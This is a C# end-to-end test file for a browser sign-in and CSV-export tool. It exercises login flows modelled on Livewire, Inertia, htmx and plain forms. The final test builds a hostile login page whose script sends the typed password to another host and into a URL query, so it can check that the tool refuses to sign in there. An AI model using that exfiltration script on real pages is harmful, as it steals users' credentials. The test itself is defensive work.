using System.Text;
using Kurir.Tests.Fetch;

namespace Kurir.EndToEnd;

/// <summary>Sign-in pages that need their scripts, in a real browser, and the session that plain HTTP goes on with.</summary>
public sealed class BrowserSignInTests
{
    const string Rows = "Tanggal,Jumlah\n22 Nov,5\n";

    /// <summary>A page drawn by a script that posts JSON and keeps the token of the reply.</summary>
    static string Spa(string storage) => Pages.Report("<div id=app></div>", $$"""
        setTimeout(() => {
            document.getElementById('app').innerHTML = '<input id=mail type=email placeholder=Email><input id=sandi type=password><button>Masuk</button><p role=alert></p>';
            document.querySelector('button').onclick = async () => {
                const reply = await fetch('/api/login', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ email: mail.value, password: sandi.value }) });
                const said = await reply.json();
                if (!reply.ok) { document.querySelector('p').textContent = said.message; return; }
                {{storage}}.setItem('token', said.token);
                history.pushState({}, '', '/beranda');
                document.getElementById('app').innerHTML = '<h1>Beranda</h1>';
                fetch('/api/me', { headers: { Authorization: 'Bearer ' + said.token } });
            };
        }, 300);
        """);

    const string Token = "token-of-the-session-0123456789abcdef";

    static Func<Asked, Answer> SpaPanel(string storage) => asked => asked.Path switch
    {
        "/login" => Answer.Html(Spa(storage)),
        "/api/login" => asked.Body.Contains("\"password\":\"correct-horse-7\"", StringComparison.Ordinal) ? Answer.Json($$"""{"token":"{{Token}}"}""") : Answer.Json("""{"message":"Email atau kata sandi salah"}""", 422),
        "/api/me" => Answer.Json("{}"),
        "/api/file" when asked.Header("Authorization") == "Bearer " + Token => Answer.Of(200, "text/csv", Encoding.UTF8.GetBytes(Rows)),
        "/api/file" => Answer.Json("{}", 401),
        "/report" => Answer.Html(Pages.Report(Pages.Dates + "<button>Export</button>", $$"""
            document.querySelector('button').onclick = async () => {
                const reply = await fetch('/api/file', { headers: { Authorization: 'Bearer ' + {{storage}}.getItem('token') } });
                const a = document.createElement('a'); a.href = URL.createObjectURL(await reply.blob()); a.download = 'x.csv'; a.click();
            };
            """)),
        _ => Pages.NotFound,
    };

    [Theory, InlineData("localStorage"), InlineData("sessionStorage")]
    public async Task A_page_drawn_by_a_script_is_signed_in_to_and_its_token_serves_browser_and_http(string storage)
    {
        await using var desk = new BrowserDesk(SpaPanel(storage), signIn: BrowserDesk.ByForm);
        Assert.Equal(Rows, await desk.Text());
        Assert.Equal(Rows, await desk.Text(new ExportConfig { Download = "/api/file" }));
        Assert.Single(desk.AskedFor("/api/login"));
    }

    [Fact]
    public async Task A_refused_password_is_remembered_and_never_sent_again()
    {
        await using var desk = new BrowserDesk(SpaPanel("localStorage"), signIn: BrowserDesk.ByForm) { Password = "wrong-horse-8" };
        Fault fault = await desk.Fault();
        Assert.Equal((FaultName.PasswordRefused, FaultKind.Ask), (fault.Name, fault.Kind));
        Assert.Contains("kata sandi salah", fault.Cause, StringComparison.Ordinal);
        Assert.Equal(FaultName.PasswordRefused, (await desk.Fault()).Name);
        Assert.Single(desk.AskedFor("/api/login"));
        Assert.Equal(1, desk.Memory.Count);
    }

    /// <summary>As Livewire does it: the framework's own attribute sends the form, and the reply draws the page anew.</summary>
    static Answer Livewire(Asked asked) => asked.Path switch
    {
        "/login" => Answer.Html(Pages.Report("""
            <form wire:submit="authenticate"><label>Email <input type="text" id="data.email"></label><label>Password <input type="password" id="data.password"></label>
            <label><input type=checkbox name=remember> Ingat saya</label><button type="submit">Masuk</button></form>
            """, """
            document.querySelector('form').onsubmit = async e => {
                e.preventDefault();
                const [mail, sandi, ingat] = document.querySelectorAll('input');
                const reply = await fetch('/livewire/update', { method: 'POST', body: JSON.stringify({ _token: document.querySelector('meta[name=csrf-token]').content, mail: mail.value, sandi: sandi.value, ingat: ingat.checked }) });
                const said = await reply.json();
                if (said.redirect) location.href = said.redirect; else document.body.insertAdjacentHTML('beforeend', '<p class=error>' + said.error + '</p>');
            };
            """)),
        "/livewire/update" => asked.Body.Contains("correct-horse-7", StringComparison.Ordinal) && asked.Body.Contains("\"ingat\":true", StringComparison.Ordinal)
            ? Answer.Json("""{"redirect":"/beranda"}""", 200, "Set-Cookie: panel_session=abcdefghijklmnopqrstuvwxyz; Path=/; HttpOnly")
            : Answer.Json("""{"error":"Kredensial ini tidak cocok dengan data kami."}"""),
        _ when asked.Cookie("panel_session") != "abcdefghijklmnopqrstuvwxyz" => Answer.Redirect("/login"),
        "/beranda" => Answer.Html("<!doctype html><h1>Beranda</h1><form method=post action=/logout><button>Keluar</button></form>"),
        "/berkas" => Pages.Csv(),
        "/report" => Answer.Html(Pages.Scripted),
        "/unduh/berkas" => Pages.Csv(),
        _ => Pages.NotFound,
    };

    [Fact]
    public async Task A_form_that_a_framework_sends_is_signed_in_to_in_the_browser_and_its_cookies_serve_plain_http()
    {
        await using var desk = new BrowserDesk(Livewire, signIn: BrowserDesk.ByForm);
        Assert.Equal(Rows, await desk.Text(new ExportConfig { Download = "/berkas" }));
        Assert.Equal(Rows, await desk.Text());
        Assert.Single(desk.AskedFor("/livewire/update"));
    }

    [Fact]
    public async Task A_framework_s_form_that_refuses_says_so()
    {
        await using var desk = new BrowserDesk(Livewire, signIn: BrowserDesk.ByForm) { Password = "wrong-horse-8" };
        Fault fault = await desk.Fault();
        Assert.Equal(FaultName.PasswordRefused, fault.Name);
        Assert.Contains("tidak cocok", fault.Cause, StringComparison.Ordinal);
    }

    /// <summary>As Inertia does it: the page is drawn from data, the form is sent by script, and a redirect leads to the data of what is drawn next.</summary>
    static Answer Inertia(Asked asked)
    {
        string Shown(string component, string props = "{}") => $$"""{"component":"{{component}}","props":{{props}},"url":"{{asked.Path}}","version":"1"}""";
        Answer Page(string data) => asked.Header("X-Inertia") is not null ? Answer.Json(data, 200, "X-Inertia: true", "Vary: X-Inertia")
            : Answer.Html(Pages.Report($"<div id=\"app\" data-page='{data}'></div>", """
                const app = document.getElementById('app');
                const draw = page => {
                    history.replaceState(null, '', page.url);
                    app.innerHTML = page.component === 'Login'
                        ? `<form><label>Email <input type=email name=email></label><label>Kata sandi <input type=password name=password></label><p class="text-red-600">${page.props.errors?.email || ''}</p><button>Masuk</button></form>`
                        : '<h1>Beranda</h1><button>Keluar</button>';
                    const form = app.querySelector('form');
                    if (form) form.onsubmit = async e => {
                        e.preventDefault();
                        const reply = await fetch('/login', { method: 'POST', headers: { 'X-Inertia': 'true', 'X-Requested-With': 'XMLHttpRequest', 'Content-Type': 'application/json' }, body: JSON.stringify(Object.fromEntries(new FormData(form))) });
                        draw(await reply.json());
                    };
                };
                draw(JSON.parse(app.dataset.page));
                """));
        return asked switch
        {
            { Method: "POST", Path: "/login" } => asked.Body.Contains("correct-horse-7", StringComparison.Ordinal)
                ? Answer.Redirect("/beranda", 303, "Set-Cookie: sid=0123456789abcdef0123; Path=/; HttpOnly") : Answer.Redirect("/login", 303, "Set-Cookie: salah=1; Path=/"),
            { Path: "/login" } => Page(Shown("Login", asked.Cookie("salah") is null ? "{}" : """{"errors":{"email":"Kredensial ini tidak cocok dengan data kami."}}""")),
            _ when asked.Cookie("sid") != "0123456789abcdef0123" => Answer.Redirect("/login"),
            { Path: "/beranda" } => Page(Shown("Home")),
            { Path: "/berkas" } => Pages.Csv(),
            _ => Pages.NotFound,
        };
    }

    /// <summary>The real htmx sends the form; the panel sends it on, or a message to be put into the page.</summary>
    static Answer Htmx(Asked asked) => asked switch
    {
        { Path: "/aset/htmx.min.js" } => Answer.Of(200, "text/javascript", File.ReadAllBytes(Path.Combine(StepwiseTests.AssetsFolder(), "htmx.min.js"))),
        { Method: "POST", Path: "/login" } => asked.Body.Contains("correct-horse-7", StringComparison.Ordinal)
            ? Answer.Html("", 200, "HX-Redirect: /beranda", "Set-Cookie: sid=0123456789abcdef0123; Path=/; HttpOnly") : Answer.Html("<p class=\"alert\">Kredensial ini tidak cocok dengan data kami.</p>"),
        { Path: "/login" } => Answer.Html("""
            <!doctype html><script src="/aset/htmx.min.js"></script>
            <form hx-post="/login" hx-target="#pesan"><div id="pesan"></div><input name="email"><input type="password" name="password"><button>Masuk</button></form>
            """),
        _ when asked.Cookie("sid") != "0123456789abcdef0123" => Answer.Redirect("/login"),
        { Path: "/beranda" } => Answer.Html("<!doctype html><a href=/logout>Keluar</a>"),
        { Path: "/berkas" } => Pages.Csv(),
        _ => Pages.NotFound,
    };

    [Theory, InlineData("inertia"), InlineData("htmx")]
    public async Task Other_frameworks_forms_are_sent_once_and_a_refused_password_is_remembered(string framework)
    {
        Func<Asked, Answer> panel = framework == "htmx" ? Htmx : Inertia;
        await using (var desk = new BrowserDesk(panel, signIn: BrowserDesk.ByForm))
        {
            Assert.Equal(Rows, await desk.Text(new ExportConfig { Download = "/berkas" }));
            Assert.Single(desk.AskedFor("/login"), asked => asked.Method == "POST");
        }

        await using var wrong = new BrowserDesk(panel, signIn: BrowserDesk.ByForm) { Password = "wrong-horse-8" };
        Fault fault = await wrong.Fault(new ExportConfig { Download = "/berkas" });
        Assert.Equal(FaultName.PasswordRefused, fault.Name);
        Assert.Contains("tidak cocok", fault.Cause, StringComparison.Ordinal);
        Assert.Equal(1, wrong.Memory.Count);
    }

    static Answer Plain(Asked asked) => asked.Path switch
    {
        "/login" when asked.Method == "POST" && asked.Body.Contains("correct-horse-7", StringComparison.Ordinal) => Answer.Redirect("/beranda", 302, "Set-Cookie: sid=0123456789abcdef0123; Path=/; HttpOnly"),
        "/login" => Answer.Html("<!doctype html><form method=post action=/login><input name=email><input type=password name=password><button>Masuk</button></form>"),
        _ when asked.Cookie("sid") != "0123456789abcdef0123" => Answer.Redirect("/login"),
        "/beranda" => Answer.Html("<!doctype html><a href=/logout>Keluar</a>"),
        "/report" => Answer.Html(Pages.Scripted),
        "/unduh/berkas" => Pages.Csv(),
        _ => Pages.NotFound,
    };

    [Fact]
    public async Task A_plain_form_is_signed_in_to_over_http_and_the_browser_gets_its_cookies()
    {
        await using var desk = new BrowserDesk(Plain, signIn: BrowserDesk.ByForm);
        Assert.Equal(Rows, await desk.Text());
        Asked sent = Assert.Single(desk.AskedFor("/login"), asked => asked.Method == "POST");
        Assert.Contains("Kurir", sent.Header("User-Agent"), StringComparison.Ordinal);
        Assert.Equal(sent.Header("User-Agent"), Assert.Single(desk.AskedFor("/unduh/berkas")).Header("User-Agent"));
    }

    [Fact]
    public async Task A_session_that_ended_is_renewed_once_and_the_browser_gets_the_new_one()
    {
        int signedIn = 0;
        await using var desk = new BrowserDesk(
            asked =>
            {
                if (asked is { Path: "/login", Method: "POST" }) return Answer.Redirect("/beranda", 302, $"Set-Cookie: sid=session-number-{++signedIn}-0123456789; Path=/");
                if (asked.Path == "/login") return Answer.Html("<!doctype html><form method=post action=/login><input name=email><input type=password name=password><button>Masuk</button></form>");
                if (asked.Path == "/beranda") return Answer.Html("<!doctype html><a href=/logout>Keluar</a>");
                if (asked.Cookie("sid") != "session-number-2-0123456789") return Answer.Redirect("/login");
                return asked.Path == "/report" ? Answer.Html(Pages.Scripted) : Pages.Csv();
            },
            SessionMode.Auto, BrowserDesk.ByForm);
        Assert.Equal(Rows, await desk.Text());
        Assert.Equal(2, signedIn);
    }

    [Fact]
    public async Task With_session_browser_the_plain_form_is_filled_in_the_browser()
    {
        await using var desk = new BrowserDesk(Plain, SessionMode.Browser, BrowserDesk.ByForm);
        Assert.Equal(Rows, await desk.Text());
        Assert.Contains("text/html", Assert.Single(desk.AskedFor("/login"), asked => asked.Method == "POST").Header("Accept"), StringComparison.Ordinal);
        Assert.NotNull(desk.AskedFor("/login").First().Header("Sec-Fetch-Mode"));
    }

    [Fact]
    public async Task A_password_goes_to_no_other_host_and_into_no_address()
    {
        await using var other = new ScriptedServer(_ => Answer.Json("{}", 200, "Access-Control-Allow-Origin: *"));
        string page = Pages.Report("<input id=mail type=email><input id=sandi type=password><button>Masuk</button>",
            $"document.querySelector('button').onclick = () => {{ fetch('{other.Address}', {{ method: 'POST', mode: 'no-cors', body: sandi.value }}); fetch('/lacak?p=' + encodeURIComponent(sandi.value)); }};");
        await using var desk = new BrowserDesk(asked => asked.Path == "/login" ? Answer.Html(page) : Pages.NotFound, signIn: BrowserDesk.ByForm);
        Assert.Equal(FaultName.SignInPageChanged, (await desk.Fault()).Name);
        Assert.Empty(other.Requests);
        Assert.Empty(desk.AskedFor("/lacak"));
        Assert.Equal(0, desk.Memory.Count);
    }
}
